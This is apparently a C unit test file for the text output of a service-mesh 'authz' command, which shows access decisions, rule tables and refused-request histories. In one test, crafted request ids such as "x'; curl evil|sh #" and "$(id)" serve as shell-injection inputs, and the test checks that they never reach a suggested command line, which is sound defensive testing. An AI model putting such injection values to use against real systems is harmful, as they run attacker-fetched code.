/* SPDX-License-Identifier: Apache-2.0 */
/* The pages of `ringmain authz`. */
#include "cli/show.h"

#include "base/assert.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static struct arena arena;
static char *text;
static size_t text_len;

static int teardown(void **state)
{
	free(text);
	text = NULL;
	arena_done(&arena);
	return 0;
}

static void show(void (*page)(FILE *out, const struct json_tree *answer), const char *answer)
{
	teardown(NULL);
	FILE *out = open_memstream(&text, &text_len);
	arena_init(&arena, 1 << 20);
	const struct json_tree *tree = json_tree_read(&arena, str_of(answer));
	assert_non_null(tree);
	page(out, tree);
	fclose(out);
}

static void assert_has(const char *part)
{
	if (!strstr(text, part))
		fail_msg("missing \"%s\" in:\n%s", part, text);
}

static void assert_has_not(const char *part)
{
	if (strstr(text, part))
		fail_msg("\"%s\" is in:\n%s", part, text);
}

#define ASKED                                                                          \
	"\"from\":\"spiffe://td/service/web\",\"to\":\"orders\",\"identity\":true,"    \
	"\"http\":true,\"method\":\"GET\",\"path\":\"/x\",\"host\":\"o\",\"port\":80," \
	"\"here\":true,"
#define DECIDED "\"barrier\":\"none\",\"policy\":\"reads\",\"where\":\"m:1\",\"action\":\"allow\""

static void a_request_is_let_in(void **state)
{
	show(show_authz_check,
		"{" ASKED "\"allowed\":true," DECIDED ",\"would_deny\":false,\"rules\":["
		"{\"name\":\"reads\",\"where\":\"m:1\",\"action\":\"allow\",\"mode\":\"enforce\","
		"\"matches\":true,\"part\":\"decides\"},"
		"{\"name\":\"no-x\",\"where\":\"m:2\",\"action\":\"deny\",\"mode\":\"audit\","
		"\"matches\":false,\"part\":\"missed\",\"missed\":\"not_paths\",\"wanted\":"
		"\"not_paths /x\",\"has\":\"/x\"},"
		"{\"name\":\"t\",\"where\":\"m:3\",\"action\":\"allow\",\"mode\":\"enforce\","
		"\"part\":\"missed\",\"missed\":\"token\",\"unknown\":true,\"wanted\":\"a token\","
		"\"has\":null}]}");
	assert_string_equal(text, "GET /x of orders (host o), port 80\n"
				  "from spiffe://td/service/web\n"
				  "\n"
				  "allowed by reads (m:1)\n"
				  "\n"
				  "RULE   ACTION          WHY                               WHERE\n"
				  "reads  allow           decides                           m:1\n"
				  "no-x   deny, on trial  is not for paths /x; it is /x     m:2\n"
				  "t      allow           wants a token; there is no token  m:3\n");
}

static void each_part_is_told(void **state)
{
	static const char *const parts[][2] = {
		{"less exact", "matches, but another names the caller more exactly"},
		{"outvoted", "matches, but one that denies names the caller as exactly"},
		{"later", "matches, and says the same as one before it"},
		{"audited", "matches, but is on trial"}, {"noted", "matches: noted"},
		{"new one", "matches"}};
	for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
		char answer[512];
		snprintf(answer, sizeof(answer),
			"{" ASKED DECIDED ",\"rules\":[{\"part\":\"%s\",\"unknown\":true,"
			"\"wanted\":\"ports 1\"}]}",
			parts[i][0]);
		show(show_authz_check, answer);
		assert_has(parts[i][1]);
		assert_has("; wants ports 1, which cannot be known");
	}
}

static void what_decides_otherwise(void **state)
{
	show(show_authz_check, "{" ASKED "\"allowed\":false,\"barrier\":\"none\",\"policy\":"
			       "\"default\",\"where\":\"mesh.default_policy\",\"service_default\":"
			       "\"mesh\",\"mesh_default\":\"authenticated\"}");
	assert_has("× refused by default (mesh.default_policy)\n  no rule matches; "
		   "mesh.default_policy says \"authenticated\", but an allow rule names");
	show(show_authz_check,
		"{" ASKED "\"allowed\":false,\"barrier\":\"none\",\"policy\":"
		"\"default\",\"service_default\":\"authenticated\",\"foreign\":true}");
	assert_has("says \"authenticated\", which lets in nobody of another trust domain\n");
	show(show_authz_check, "{" ASKED "\"allowed\":false,\"barrier\":\"none\",\"policy\":"
			       "\"default\",\"service_default\":\"deny\"}");
	assert_has("services.default_policy says \"deny\"\n");
	show(show_authz_check,
		"{\"from\":null,\"to\":\"orders\",\"http\":false,\"client\":\"10.0.0.1\","
		"\"allowed\":false,\"barrier\":\"mtls\",\"policy\":\"default\",\"rules\":[{}]}");
	assert_has("opaque bytes to orders\nfrom somebody without an identity at 10.0.0.1\n");
	assert_has("× refused, whatever the rules say: mtls = \"strict\"");
	assert_has_not("RULE");
	show(show_authz_check, "{" ASKED "\"asked_path\":\"/y/../x\",\"barrier\":\"path\"}");
	assert_has("‼ the path was /y/../x: ");
	assert_has("× refused with 400");
	show(show_authz_check, "{" ASKED "\"barrier\":\"http\",\"barrier_policy\":\"p\","
			       "\"barrier_where\":\"m:7\"}");
	assert_has("these are opaque bytes, and p (m:7) asks for what only HTTP has\n");
	show(show_authz_check, "{" ASKED "\"allowed\":true," DECIDED
			       ",\"would_deny\":true,\"audited\":\"t\",\"audited_where\":\"m:9\","
			       "\"noted\":\"n\",\"noted_where\":\"m:8\"}");
	assert_has("allowed by reads (m:1)\n‼ it would be refused by t (m:9): that is on trial");
	assert_has("  noted by n (m:8)\n");
	show(show_authz_check, "{" ASKED "\"allowed\":true," DECIDED
			       ",\"would_deny\":true,\"mesh_audit\":true,\"audited\":\"t\"}");
	assert_has("mesh.policy_mode is \"audit\"");
	show(show_authz_check, "{\"from\":\"spiffe://td/x\",\"identity\":false}");
	assert_has("‼ mtls = \"disabled\": from another machine it comes in plain text, and nobody "
		   "sees who sends it\n");
	show(show_authz_check, "{\"from\":\"spiffe://td/x\",\"identity\":true,\"undeclared\":\"x\","
			       "\"like\":null}");
	assert_has("‼ no service \"x\" is known here: judged as the identity of that name\n");
	show(show_authz_check, "{\"from\":\"spiffe://td/x\",\"identity\":true,\"undeclared\":\"x\","
			       "\"like\":\"y\"}");
	assert_has("of that name; did you mean \"y\"?\n");
}

static void which_machine_decides(void **state)
{
	show(show_authz_check, "{\"here\":false,\"machines\":[\"10.0.0.1\",\"10.0.0.2\"],"
			       "\"machine_count\":9}");
	assert_has("the service has no workload here: its own machines decide, by what they know "
		   "of the mesh: 10.0.0.1, 10.0.0.2 and 7 more\n");
	show(show_authz_check, "{\"here\":true,\"machines\":[\"10.0.0.1\"],\"machine_count\":1}");
	assert_has("this machine decides for its own workload, and others for theirs: 10.0.0.1\n");
	show(show_authz_check, "{\"here\":false,\"otherwise\":[{\"from\":\"spiffe://td/old\","
			       "\"allowed\":true,\"policy\":\"p\",\"where\":\"m:1\"}]}");
	assert_has("no endpoint that is known here");
	assert_has("‼ as spiffe://td/old it would be allowed by p (m:1)\n");
	show(show_authz_check, "{\"otherwise\":[{\"from\":\"spiffe://td/x\",\"neighbour\":true,"
			       "\"allowed\":false,\"policy\":\"p\",\"where\":\"m:1\"}]}");
	assert_has("‼ as spiffe://td/x, on the service's own machine, it would be refused by p "
		   "(m:1)\n");
}

/* Of a service with thousands of rules only some of those that do not match are shown. */
static void many_rules(void **state)
{
	static char answer[1 << 16];
	size_t len = (size_t)snprintf(answer, sizeof(answer), "{" ASKED DECIDED ",\"rules\":[");
	for (int i = 0; i < 100; i++)
		len += (size_t)snprintf(answer + len, sizeof(answer) - len,
			"{\"name\":\"r%d\",\"part\":\"missed\",\"wanted\":\"x\"},", i);
	snprintf(answer + len, sizeof(answer) - len, "{\"name\":\"last\",\"part\":\"decides\"}]}");
	show(show_authz_check, answer);
	assert_has("\nr39 ");
	assert_has_not("\nr40 ");
	assert_has("\nlast ");
	assert_has("and 60 more that do not match\n");
}

static void the_rules_of_a_service(void **state)
{
	show(show_authz_list,
		"{\"service\":\"orders\",\"mtls\":\"strict\",\"mtls_ports\":[{\"port\":9100,"
		"\"mtls\":\"permissive\"}],\"here\":false,\"default\":\"deny\",\"default_where\":"
		"\"mesh.default_policy\",\"default_closed\":false,\"mesh_audit\":true,\"rules\":["
		"{\"from\":null,\"not_from\":null,\"name\":\"no-admin\",\"action\":\"deny\","
		"\"mode\":\"enforce\",\"when\":[\"paths /admin/*\"],\"where\":\"m:1\"},"
		"{\"from\":\"shop/*\",\"not_from\":[\"shop/a\",\"shop/b\"],\"name\":\"shop\","
		"\"action\":\"allow\",\"mode\":\"audit\",\"when\":[\"methods GET\","
		"\"ports 80\"],\"where\":\"m:2\",\"never\":\"outvoted\",\"by\":\"x\","
		"\"by_where\":\"m:9\"},"
		"{\"from\":null,\"name\":\"all\",\"action\":\"allow\",\"mode\":\"enforce\","
		"\"when\":[],\"where\":\"m:3\"}]}");
	assert_string_equal(text,
		"orders, mtls strict, port 9100: permissive, no workload here\n"
		"‼ mesh.policy_mode is \"audit\": what is refused passes, and is told\n"
		"\n"
		"FROM                           ACTION           WHEN                           "
		"RULE   "
		"   WHERE\n"
		"everybody                      deny             paths /admin/*                 "
		"no-admi"
		"n  m:1\n"
		"shop/* but not shop/a, shop/b  allow, on trial  methods GET                    ‼ "
		"shop "
		"   m:2\n"
		"                                                and ports 80\n"
		"any identity                   allow            everything                     "
		"all    "
		"   m:3\n"
		"whoever is left                                 refused (mesh.default_policy)\n"
		"‼ shop never decides about shop/*, whom another rule refuses whatever is asked: x "
		"(m:9)\n");
}

/* What a rule asks for is all there, however much it is: who misses an exception or a path takes
 * the rule for another one. */
static void a_rule_of_many_words(void **state)
{
	char answer[8192], part[32];
	size_t len = (size_t)snprintf(answer, sizeof(answer),
		"{\"service\":\"orders\",\"mtls\":\"strict\",\"here\":true,\"rules\":[{\"from\":"
		"\"shop/*\",\"not_from\":[");
	for (int i = 0; i < 20; i++)
		len += (size_t)snprintf(answer + len, sizeof(answer) - len, "%s\"shop/caller-%d\"",
			i ? "," : "", i);
	len += (size_t)snprintf(answer + len, sizeof(answer) - len,
		"],\"name\":\"many\",\"action\":\"allow\",\"mode\":\"enforce\",\"when\":[\"paths");
	for (int i = 0; i < 40; i++)
		len += (size_t)snprintf(
			answer + len, sizeof(answer) - len, "%s /some/path/%d", i ? " or" : "", i);
	len += (size_t)snprintf(
		answer + len, sizeof(answer) - len, "\",\"methods GET\"],\"where\":\"m:3\"}]}");
	assert_in_range(len, 1000, sizeof(answer) - 1);
	show(show_authz_list, answer);
	for (int i = 0; i < 20; i++) {
		snprintf(part, sizeof(part), i == 19 ? "shop/caller-%d " : "shop/caller-%d", i);
		assert_has(part);
	}
	for (int i = 0; i < 40; i++) {
		snprintf(part, sizeof(part), " /some/path/%d", i);
		assert_has(part);
	}
	assert_has("shop/* but not shop/caller-0, shop/caller-1");
	assert_has("\n  nor shop/caller-");
	assert_has("    or /some/path/");
	assert_has("and methods GET\n");
	assert_has_not("…");
	for (const char *line = text; *line; line = strchr(line, '\n') + 1)
		assert_in_range(strcspn(line, "\n"), 0, 200);
}

/* Of one word that is too long, and of what stands before another, the end is missing, and that is
 * seen. */
static void words_that_are_too_long(void **state)
{
	char answer[2048], path[300];
	memset(path, 'p', sizeof(path) - 1);
	path[sizeof(path) - 1] = '\0';
	snprintf(answer, sizeof(answer),
		"{\"service\":\"orders\",\"rules\":[{\"from\":\"web\",\"name\":\"r\",\"action\":"
		"\"deny\",\"when\":[\"paths /%s or /b\"],\"where\":\"m:1\"}]}",
		path);
	show(show_authz_list, answer);
	assert_has("ppp…  r ");
	assert_has("    or /b\n");
	snprintf(answer, sizeof(answer),
		"{\"rules\":[{\"name\":\"r\",\"action\":\"deny\",\"part\":\"missed\",\"missed\":"
		"\"paths\",\"wanted\":\"paths /%s\",\"has\":\"/b\",\"where\":\"m:1\"}]}",
		path);
	show(show_authz_check, answer);
	assert_has("ppp…; it is /b ");
}

static void all_services(void **state)
{
	show(show_authz_list, "{\"services\":[]}");
	assert_string_equal(text, "no services\n");
	show(show_authz_list,
		"{\"services\":[{\"service\":\"orders\",\"protocol\":\"http\",\"mtls\":\"strict\","
		"\"mtls_ports\":[{\"port\":1,\"mtls\":\"disabled\"}],\"allow\":2,\"deny\":0,"
		"\"audit\":1,\"on_trial\":0,\"default\":\"authenticated\",\"default_where\":"
		"\"services.default_policy\"}]}");
	assert_string_equal(text,
		"SERVICE  PROTOCOL  MTLS                ALLOW  DENY  AUDIT  ON TRIAL  WHOEVER IS "
		"LEFT\n"
		"orders   http      strict, 1 disabled  2      -     1      -         any identity "
		"may (services.default_policy)\n");
}

#define REFUSED                                                                            \
	"{\"time\":\"T1\",\"http\":true,\"connection\":7,\"from\":\"spiffe://td/web\","    \
	"\"client\":\"10.0.0.1:9\",\"service\":\"orders\",\"port\":80,\"method\":\"PUT\"," \
	"\"host\":\"o\",\"path\":\"/x\",\"here\":true,\"refused\":true,\"status\":403,"    \
	"\"reason\":\"POLICY_DENIED\",\"reason_text\":\"policy does not allow it\","       \
	"\"policy\":\"no-x\",\"where\":\"m:4\""

static void what_became_of_it(void **state)
{
	show(show_authz_why, "{\"id\":\"r\",\"decisions\":[" REFUSED "}],\"known\":true}");
	assert_string_equal(text, "T1  PUT /x of orders (host o), port 80\n"
				  "  from spiffe://td/web at 10.0.0.1:9, connection 7\n"
				  "  × refused by no-x (m:4)\n"
				  "  answered 403\n"
				  "  POLICY_DENIED: policy does not allow it\n");
	show(show_authz_why,
		"{\"decisions\":[" REFUSED ",\"is_old\":true,\"now\":{\"allowed\":true," DECIDED
		",\"unsure\":true}}],\"workers\":2,\"workers_answered\":1}");
	assert_has("Now it would be:\n‼ its headers and token were not kept");
	assert_has("allowed by reads (m:1)\n");
	assert_has("‼ 1 of 2 workers have not answered\n");
	show(show_authz_why, "{\"decisions\":[" REFUSED ",\"is_old\":true,\"cut\":true}]}");
	assert_has("What it would come to now cannot be told");
	show(show_authz_why,
		"{\"decisions\":[{\"time\":\"T1\",\"http\":true,\"path\":\"/x\",\"method\":\"GET\","
		"\"here\":false,\"status\":403,\"upstream\":\"10.0.0.2:15008\",\"reason\":"
		"\"NONE\"}," REFUSED ",\"mirror\":true,\"audited\":\"t\",\"noted\":\"n\"}]}");
	assert_has("sent to the machine at 10.0.0.2:15008, which decides");
	assert_has("× it was answered 403: refused there");
	assert_has("\n\nT1  a copy: PUT");
	assert_has("‼ it would have been refused by t: on trial, so it passed\n  noted by n\n");
}

static void nothing_is_known_of_it(void **state)
{
	show(show_authz_why, "{\"id\":\"r\",\"access_log\":\"/a.log\",\"started\":\"S\",\"since\":"
			     "\"T\",\"known\":false,\"decisions\":[]}");
	assert_string_equal(text,
		"× nothing is known here of \"r\"\n"
		"  what was refused or told is known since T, what was let in since S\n"
		"  older ones: grep 'r' /a.log\n"
		"  a request is decided on its service's machine, and known there and on the "
		"caller's\n");
	show(show_authz_why, "{\"id\":\"r\",\"access_log\":\"off\"}");
	assert_has("older ones are nowhere");
	show(show_authz_why, "{\"id\":\"r\",\"access_log\":\"stderr\"}");
	assert_has("journalctl -u ringmain --grep 'r'");
}

/* The id is the client's: whoever copies the line runs nothing of it. */
static void a_strange_id_is_in_no_command(void **state)
{
	static const char *const ids[] = {"x'; curl evil|sh #", "$(id)", "a b", "-f", "", "a`id`"};
	char answer[200];
	for (size_t i = 0; i < ARRAY_LEN(ids); i++) {
		snprintf(answer, sizeof(answer), "{\"id\":\"%s\",\"access_log\":\"/a.log\"}",
			ids[i]);
		show(show_authz_why, answer);
		assert_has_not("grep");
		assert_has("older ones: look for this id in /a.log\n");
		snprintf(answer, sizeof(answer), "{\"id\":\"%s\",\"access_log\":\"stderr\"}",
			ids[i]);
		show(show_authz_why, answer);
		assert_has_not("--grep");
	}
	show(show_authz_why, "{\"id\":\"aZ09._:-\",\"access_log\":\"/a.log\"}");
	assert_has("grep 'aZ09._:-' /a.log");
}

static void answers_with_gaps_are_shown(void **state)
{
	show(show_authz_check, "{}");
	show(show_authz_check, "{\"rules\":[{}],\"barrier\":7,\"otherwise\":[{}]}");
	show(show_authz_list, "{}");
	show(show_authz_list, "{\"service\":\"x\",\"rules\":[{\"never\":\"what\"}]}");
	show(show_authz_why, "{}");
	show(show_authz_why, "{\"decisions\":[{},{\"here\":true,\"is_old\":true,\"now\":{}}]}");
}

#define TEST(name) cmocka_unit_test_teardown(name, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(a_request_is_let_in),
		TEST(each_part_is_told),
		TEST(what_decides_otherwise),
		TEST(which_machine_decides),
		TEST(many_rules),
		TEST(the_rules_of_a_service),
		TEST(a_rule_of_many_words),
		TEST(words_that_are_too_long),
		TEST(all_services),
		TEST(what_became_of_it),
		TEST(nothing_is_known_of_it),
		TEST(a_strange_id_is_in_no_command),
		TEST(answers_with_gaps_are_shown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
